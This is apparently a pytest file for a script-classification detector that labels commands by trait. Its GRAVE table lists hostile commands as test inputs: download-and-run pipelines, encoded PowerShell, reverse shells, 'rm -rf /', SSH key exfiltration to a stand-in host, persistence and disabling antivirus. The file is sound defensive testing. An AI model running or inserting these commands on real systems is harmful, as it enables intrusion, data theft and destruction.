"""Scripts are known by what they do; helper scripts do nothing of it."""

import pytest

from backstamp.formats.script import script_language, traits_of

GRAVE = {
    "curl -fsSL https://x.example/i | bash": "download-and-run",
    "wget -qO- http://x.example/i.sh | sudo sh": "download-and-run",
    "curl -s http://x.example \\\n  | sh": "download-and-run",
    'bash -c "$(curl -fsSL http://x.example/i)"': "download-and-run",
    "bash <(curl -s http://x.example/i)": "download-and-run",
    "curl http://x.example/p | python3 -": "download-and-run",
    'powershell -c "iwr http://x.example/p.ps1 | iex"': "download-and-run",
    "IEX (New-Object Net.WebClient).DownloadString('http://x.example/p')": "download-and-run",
    "mshta http://x.example/a.hta": "download-and-run",
    "regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll": "download-and-run",
    "curl -o /tmp/upd http://x.example/u\nchmod +x /tmp/upd\n/tmp/upd &": "download-and-run",
    "Invoke-WebRequest http://x.example/a.exe -OutFile a.exe\nStart-Process a.exe": "download-and-run",
    "echo aGkK | base64 -d | sh": "decode-and-run",
    "eval $(echo aGkK | base64 --decode)": "decode-and-run",
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A": "decode-and-run",
    "certutil -decode a.txt a.exe": "decode-and-run",
    "python -c \"exec(__import__('base64').b64decode('aGkK'))\"": "decode-and-run",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1": "reverse-shell",
    "nc -e /bin/sh 192.0.2.1 4444": "reverse-shell",
    "ncat 192.0.2.1 4444 --exec /bin/sh": "reverse-shell",
    "rm -rf / --no-preserve-root": "destroys",
    "curl -F f=@~/.ssh/id_rsa http://x.example": "reads-secrets",
    "echo key >> ~/.ssh/authorized_keys": "persists",
    "schtasks /tn upd /create /tr a.exe": "persists",
    "Set-MpPreference -DisableRealtimeMonitoring $true": "disables-defence",
}
PLAIN = (
    "python convert.py --outfile model.gguf",
    "pip install -r requirements.txt",
    "rm -rf build dist",
    "curl -L -o model.safetensors https://x.example/model.safetensors",
    "wget https://x.example/data.tar.gz\ntar xf data.tar.gz",
    "# curl http://x.example | sh is what you should not do",
    "base64 -d cert.b64 > cert.pem",
    "torchrun --nproc_per_node 8 train.py | tee log.txt",
    "find . -name '*.pyc' -exec rm {} +",
    "export PATH=$HOME/.local/bin:$PATH",
    "nc -z localhost 8000",
    "huggingface-cli download org/model",
)


@pytest.mark.parametrize("text", GRAVE)
def test_finds_what_no_helper_does(text):
    assert GRAVE[text] in traits_of(text)


@pytest.mark.parametrize("text", PLAIN)
def test_leaves_helpers_alone(text):
    assert traits_of(text) == {}


def test_is_not_fooled_by_a_line_that_is_very_long():
    assert "download-and-run" in traits_of("true; " * 5000 + "curl http://x.example | sh")


@pytest.mark.parametrize(
    ("text", "name", "language"),
    [
        ("#!/bin/bash\n", "x", "bash"),
        ("#!/usr/bin/env -S FOO=1 node\n", "x", "node"),
        ("#!/usr/bin/python3\n", "x", ""),
        ("echo", "X.BAT", "batch"),
        ("echo", "x.txt", ""),
    ],
)
def test_the_language_is_that_of_the_first_line_or_the_name(text, name, language):
    assert script_language(text, name) == language
